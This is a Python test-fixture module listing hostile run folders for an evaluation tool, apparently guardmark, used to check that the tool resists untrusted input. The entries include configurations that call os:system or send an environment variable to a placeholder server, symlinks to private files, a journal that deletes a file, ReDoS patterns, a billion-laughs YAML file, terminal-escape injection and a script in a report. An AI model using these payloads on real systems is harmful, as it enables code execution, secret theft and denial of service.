"""Run folders from a stranger: one line of `FOLDERS` each, and what makes them hostile.

Most are honest runs of a hostile configuration, made on the stranger's machine, so that every hash
and seal holds. The others are a good run that was spoilt afterwards. To add a case, add a line.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import struct
from contextlib import closing
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from pathlib import Path

VARIABLE: Final = "GM_OF_THE_VICTIM"
"""A variable that the victim has set, and that a stranger would like to read."""

MODULE: Final = "stranger_module"
"""A module that can be imported on both machines; on the victim's it must not be."""

PRIVATE: Final = "private_of_the_victim"
"""A file beside the victim's folder."""

SOURCE: Final = """\
def decide(text):
    return "ignore" in text

def load():
    return decide
"""

WORKER: Final = (
    "import json, sys\\nfor line in sys.stdin:\\n  "
    "print(json.dumps({'id': json.loads(line)['id'], 'blocked': False}), flush=True)"
)
PROGRAM: Final = f'type: command, command: [python3, -c, "{WORKER}"]'

PATTERN: Final = "  words: {type: pattern, patterns: ['ignore'], flags: [I]}\n"
MODEL: Final = "  model: {type: scripted, otherwise: 'Here is an explanation.'}\n"
JUDGE: Final = "  judges: [{type: rules, name: rules, unsafe: ['here is how']}]\n"


@dataclass(frozen=True, slots=True, kw_only=True)
class Folder:
    """A hostile folder: the configuration that made it, and what was done to it afterwards."""

    defenses: str = PATTERN
    pipeline: str = ""
    more: str = ""
    spoil: Callable[[Path], None] | None = None
    verifies: bool | None = None
    machine: str = ""  # what Python of the stranger's machine begins with
    env: Mapping[str, str] = field(default_factory=dict)

    @property
    def is_measured(self) -> bool:
        """Whether its run needs measuring, since it is not an honest one that was spoilt."""
        return (self.defenses, self.pipeline, self.more) != (PATTERN, "", "")

    def configuration(self, server: str) -> str:
        """The configuration, with the address of the stranger's server."""
        head = (
            "version: 1\nname: strange\ndata: [{path: data.jsonl}]\nreport: [html, md, json, csv]\n"
        )
        text = f"{head}defenses:\n{self.defenses}{self.pipeline}{self.more}"
        return text.replace("SERVER", server).replace("VARIABLE", VARIABLE)


def _sql(*statements: str) -> Callable[[Path], None]:
    def spoil(run: Path) -> None:
        with closing(sqlite3.connect(run / "records.sqlite", isolation_level=None)) as connection:
            for statement in statements:
                connection.execute(statement)

    return spoil


def _write(name: str, content: bytes) -> Callable[[Path], None]:
    def spoil(run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        (run / name).write_bytes(content)

    return spoil


def _link(name: str, target: str) -> Callable[[Path], None]:
    def spoil(run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to(target)

    return spoil


def _fifo(name: str) -> Callable[[Path], None]:
    def spoil(run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        os.mkfifo(run / name)

    return spoil


def _huge(name: str) -> Callable[[Path], None]:
    def spoil(run: Path) -> None:
        with (run / name).open("ab") as stream:
            stream.truncate(3_000_000_000)  # a file of holes: large to a reader, small on the disk

    return spoil


def _journal(run: Path) -> None:
    """Plant a journal of several databases: SQLite takes back the first, and deletes the others."""
    path = run / "records.sqlite"
    (page,) = struct.unpack_from(">H", path.read_bytes(), 16)
    magic, other = bytes.fromhex("d9d505f920a163d7"), PRIVATE.encode()
    pages = path.stat().st_size // page
    head = (magic + struct.pack(">5I", 0, 1, pages, 512, page)).ljust(512, b"\0")
    end = struct.pack(">I", (1 << 30) // page + 1) + other
    end += struct.pack(">2I", len(other), sum(other)) + magic
    (run / "records.sqlite-journal").write_bytes(head + end)
    (run / "records.sqlite-wal").touch()  # who reads takes an empty one away, and writes for that


def _lines(text: str, file: str) -> Callable[[Path], None]:
    def spoil(run: Path) -> None:
        with (run / file).open("ab") as stream:
            stream.write(text.encode() * 3)

    return spoil


def _edit_manifest(**values: object) -> Callable[[Path], None]:
    return _manifest(lambda manifest: manifest.update(values))


def _hide(run: Path) -> None:
    for name in (".records.sqlite", "records.sqlite.py", ".guardmark.yaml", "sitecustomize.py"):
        (run / name).write_text(f"import {MODULE}", encoding="utf-8")


def _hole(name: str) -> Callable[[Path], None]:
    def spoil(run: Path) -> None:
        (run / name).touch()
        _huge(name)(run)

    return spoil


def _truncate(run: Path) -> None:
    path = run / "records.sqlite"
    os.truncate(path, path.stat().st_size // 2)


def _manifest(change: Callable[[dict[str, object]], object]) -> Callable[[Path], None]:
    def spoil(run: Path) -> None:
        with closing(sqlite3.connect(run / "records.sqlite", isolation_level=None)) as connection:
            (text,) = connection.execute("SELECT value FROM meta WHERE key = 'manifest'").fetchone()
            manifest = json.loads(text)
            change(manifest)
            connection.execute(
                "UPDATE meta SET value = ? WHERE key = 'manifest'", [json.dumps(manifest)]
            )

    return spoil


def _rename_part(name: str) -> Callable[[dict[str, object]], object]:
    def change(manifest: dict[str, object]) -> None:
        manifest["parts"][0]["name"] = name  # type: ignore[index]

    return change


def _edit_part(part_type: str, **settings: object) -> Callable[[dict[str, object]], object]:
    def change(manifest: dict[str, object]) -> None:
        part = manifest["parts"][0]  # type: ignore[index]
        part.update(type=part_type, settings=settings)
        defenses = manifest["settings"]["defenses"]  # type: ignore[index]
        for each in defenses:
            defenses[each] = {"type": part_type, **settings}

    return change


def _double_records(run: Path) -> None:
    shutil.copy(run / "records.sqlite", run / "records (1).sqlite")
    (run / "records.sqlite-wal").write_bytes(b"\x37\x7f\x06\x82" + b"\xff" * 4096)


ENDLESS: Final = (
    "WITH RECURSIVE endless(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM endless) "
    "SELECT n AS {} FROM endless"
)
IMPATIENT: Final = """\
import guardmark.config.deadline
guardmark.config.deadline.PATTERN_TIMEOUT_S = 0.01
"""
"""Who made the folder did not wait: what is not stated there is the usual time of the victim."""
HANGS: Final = "(.|.|.|.)*~$"
"""An expression that tries for years whether a text fits."""
COLUMNS: Final = ", ".join(
    f"n AS {name}" for name in ("defense", "stage", "layer", "repeat", "sample", "outcome", "batch")
)

FOLDERS: Final[Mapping[str, Folder]] = {
    # Code that the folder would like to be run.
    "a function of a module": Folder(
        defenses=f"  strange: {{type: python, target: '{MODULE}:decide'}}\n"
    ),
    "a function of a file": Folder(
        defenses=f"  strange: {{type: python, target: '{MODULE}.py:decide'}}\n"
    ),
    "the shell": Folder(
        defenses="  strange: {type: python, target: 'os:system', score_range: [0, 65535], "
        "threshold: 0.1}\n"
    ),
    "the shell, edited in": Folder(
        spoil=_manifest(_edit_part("python", target="os:system")), verifies=False
    ),
    "a module, edited in": Folder(
        spoil=_manifest(_edit_part("python", target=f"{MODULE}:decide")), verifies=False
    ),
    "a chain that holds a function": Folder(
        defenses="  strange: {type: chain, of: [words, inner]}\n"
        f"{PATTERN}  inner: {{type: python, target: '{MODULE}:decide'}}\n"
    ),
    "a program": Folder(defenses=f"  strange: {{{PROGRAM}}}\n"),
    "a program with a variable": Folder(
        defenses=f"  strange: {{{PROGRAM}, variables: [VARIABLE]}}\n",
        env={VARIABLE: "of the stranger"},
    ),
    "a shell, edited in": Folder(
        spoil=_manifest(_edit_part("command", command=["sh", "-c", f"touch {PRIVATE}"])),
        verifies=False,
    ),
    "a function under another Python": Folder(
        defenses="  strange: {type: python, target: 'os.path:isabs', interpreter: python3}\n"
    ),
    # Addresses and variables that the folder would like to be used.
    "an address": Folder(
        defenses="  strange: {type: http, url: 'SERVER/guard', body: {text: {$input: text}}, "
        "blocked: '$.blocked'}\n"
    ),
    "a variable in a header": Folder(
        defenses="  strange: {type: http, url: 'SERVER/guard', headers: {X-A: {env: VARIABLE}}, "
        "body: {text: {$input: text}}, blocked: '$.blocked'}\n",
        env={VARIABLE: "of the stranger"},
    ),
    "a key's variable": Folder(
        defenses="  strange: {type: guard-model, profile: yes-no, base_url: 'SERVER/v1', "
        "model: guard, api_key: {env: VARIABLE}}\n",
        env={VARIABLE: "of the stranger"},
    ),
    "an address, edited in": Folder(
        spoil=_manifest(
            _edit_part(
                "http",
                url="http://127.0.0.1:9/guard",
                headers={"X-A": {"env": VARIABLE}},
                body={"text": {"$input": "text"}},
                blocked="$.blocked",
            )
        ),
        verifies=False,
    ),
    "a target model at an address": Folder(
        pipeline="pipeline:\n  guards: [none, words]\n"
        "  model: {type: chat, base_url: 'SERVER/v1', model: m, api_key: {env: VARIABLE}}\n"
        + JUDGE,
        env={VARIABLE: "of the stranger"},
    ),
    "a judge at an address": Folder(
        pipeline="pipeline:\n  guards: [none, words]\n"
        + MODEL
        + "  judges: [{type: chat, name: j, base_url: 'SERVER/v1', model: judge, "
        "api_key: {env: VARIABLE}}]\n",
        env={VARIABLE: "of the stranger"},
    ),
    "an attacker model at an address": Folder(
        more="adaptive:\n  attacker: {type: chat, base_url: 'SERVER/v1', model: m, "
        "api_key: {env: VARIABLE}}\n",
        env={VARIABLE: "of the stranger"},
    ),
    # Expressions that the folder would like to be searched for, for ever.
    "a pattern that never ends": Folder(
        defenses=f"  words: {{type: pattern, patterns: ['{HANGS}']}}\n", machine=IMPATIENT
    ),
    "a model and a judge that never end": Folder(
        pipeline="pipeline:\n  guards: [none, words]\n"
        f"  model: {{type: scripted, otherwise: 'Here is one.', rules: [{{when: '{HANGS}', answer: x}}]}}\n"
        f"  judges: [{{type: rules, name: rules, unsafe: ['{HANGS}']}}]\n",
        machine=IMPATIENT,
    ),
    "a pattern that takes a minute to compile": Folder(
        defenses="  words: {type: pattern, flags: [I], patterns: ['"
        + "[\\u0080-\\U0010ffff]" * 900
        + "']}\n"
    ),
    # Files that the folder would like to be read.
    "weights of a private file, edited in": Folder(
        spoil=_manifest(_edit_part("ngram", weights=f"../{PRIVATE}")), verifies=False
    ),
    "a private file behind a report": Folder(spoil=_link("report.html", f"../{PRIVATE}")),
    "a private file behind the summary": Folder(spoil=_link("summary.json", f"../{PRIVATE}")),
    "a private file behind the seals": Folder(spoil=_link("seals.jsonl", f"../{PRIVATE}")),
    "a private file behind the configuration": Folder(
        spoil=_link("config.resolved.yaml", f"../{PRIVATE}")
    ),
    "a pipe that never ends as environment": Folder(spoil=_fifo("environment.json")),
    "a pipe that never ends as seals": Folder(spoil=_fifo("seals.jsonl"), verifies=False),
    "a device behind the records": Folder(
        spoil=_link("records.sqlite", "/dev/zero"), verifies=False
    ),
    # Hostile databases.
    "a view that never ends": Folder(
        spoil=_sql(
            "ALTER TABLE records RENAME TO kept",
            f"CREATE VIEW records AS {ENDLESS.format('x')}".replace("n AS x", COLUMNS),
        ),
        verifies=False,
    ),
    "meta as a view that never ends": Folder(
        spoil=_sql(
            "ALTER TABLE meta RENAME TO kept",
            "CREATE VIEW meta AS "
            + ENDLESS.format("key").replace("n AS key", "n AS key, n AS value"),
        ),
        verifies=False,
    ),
    "a trigger": Folder(
        spoil=_sql(
            "CREATE TRIGGER strange AFTER INSERT ON records BEGIN DELETE FROM meta; END",
            "CREATE TRIGGER stranger AFTER UPDATE ON meta BEGIN DELETE FROM records; END",
        ),
        verifies=False,
    ),
    "a view of our own name that lies": Folder(
        spoil=_sql("DROP VIEW IF EXISTS results", f"CREATE VIEW results AS {ENDLESS.format('x')}"),
        verifies=False,
    ),
    "a table of another kind": Folder(
        spoil=_sql("CREATE VIRTUAL TABLE strange USING fts5(x)"), verifies=False
    ),
    "a table too many": Folder(spoil=_sql("CREATE TABLE strange (x)"), verifies=False),
    "a state too many": Folder(
        spoil=_sql("INSERT INTO meta VALUES ('strange', 'x')"), verifies=False
    ),
    "a value of another type": Folder(
        spoil=_sql("UPDATE records SET sample = 'x' WHERE sample = 1"), verifies=False
    ),
    "a record of no sample": Folder(
        spoil=_sql("UPDATE records SET sample = 99 WHERE sample = 1"), verifies=False
    ),
    "a name of bytes": Folder(
        spoil=_sql("UPDATE defenses SET name = x'eda080' WHERE id = 0"), verifies=False
    ),
    "a repeat beyond all memory": Folder(
        spoil=_sql("UPDATE records SET repeat = 1 << 60 WHERE sample = 1"), verifies=False
    ),
    "a manifest of numbers that are words": Folder(
        spoil=_edit_manifest(confidence="x\n::error::", repeats=None, settings=7), verifies=False
    ),
    "a manifest of a billion repeats": Folder(
        spoil=_edit_manifest(repeats=1 << 40, warmup=-1), verifies=False
    ),
    "a manifest of data elsewhere": Folder(
        spoil=_manifest(
            lambda manifest: manifest["data"][0].update(  # type: ignore[index]
                files={f"../{PRIVATE}": "0" * 64, "/dev/zero": "0" * 64}
            )
        ),
        verifies=False,
    ),
    "a journal that deletes a private file": Folder(spoil=_journal, verifies=False),
    "a log that links to a private file": Folder(
        spoil=_link("records.sqlite-wal", f"../{PRIVATE}"), verifies=False
    ),
    "records that are a pipe": Folder(spoil=_fifo("records.sqlite"), verifies=False),
    "records and three gigabytes of nothing": Folder(spoil=_huge("records.sqlite")),
    "calls under way that never were": Folder(
        spoil=_lines("0 0 7 7\n9 9\n\x00::error::\n", ".calls-under-way")
    ),
    "half a database": Folder(spoil=_truncate, verifies=False),
    "no database": Folder(spoil=_write("records.sqlite", b"\0" * 4096), verifies=False),
    "an emptied database": Folder(spoil=_write("records.sqlite", b""), verifies=False),
    "a write-ahead log of rubbish": Folder(spoil=_double_records),
    # Text that is more than it seems.
    "a manifest of ten thousand brackets": Folder(
        spoil=_sql(
            "UPDATE meta SET value = printf('%.*c%.*c', 10000, '[', 10000, ']')"
            " WHERE key = 'manifest'"
        ),
        verifies=False,
    ),
    "names that command a terminal": Folder(
        spoil=_manifest(_rename_part("a\n::error file=x::y\x1b]0;z\x07\x1b[2J")), verifies=False
    ),
    "a report with a script": Folder(
        spoil=_write("report.html", b"<script>document.title = 'strange'</script>"), verifies=False
    ),
    "a seal of a private file": Folder(
        spoil=_write(
            "seals.jsonl",
            b'{"file":"../%s","sha256":"%s","size":14,"head":"","version":"0","before":""}\n'
            % (PRIVATE.encode(), b"0" * 64),
        ),
        verifies=False,
    ),
    "a private file behind the signature": Folder(
        spoil=_link("seals.jsonl.minisig", f"../{PRIVATE}"), verifies=False
    ),
    "a signature of three gigabytes": Folder(spoil=_hole("seals.jsonl.minisig")),
    "files that are hidden": Folder(spoil=_hide),
    "seals that are no seals": Folder(
        spoil=_write("seals.jsonl", b'{"a": ' * 5_000 + b"\n\xff\xfe\n"), verifies=False
    ),
    "a summary of three gigabytes": Folder(spoil=_huge("summary.json"), verifies=False),
    "seals of three gigabytes": Folder(spoil=_huge("seals.jsonl"), verifies=False),
    "three gigabytes of addresses": Folder(spoil=_huge("endpoints.jsonl"), verifies=False),
    "a billion laughs": Folder(
        spoil=_write(
            "config.resolved.yaml",
            b"a: &a [x, x, x, x, x, x, x, x, x, x]\n"
            + b"".join(
                b"%c: &%c [%s]\n" % (n, n, b", ".join([b"*%c" % (n - 1)] * 10))
                for n in range(ord("b"), ord("k"))
            ),
        ),
        verifies=False,
    ),
}
"""Name to what is hostile about it."""
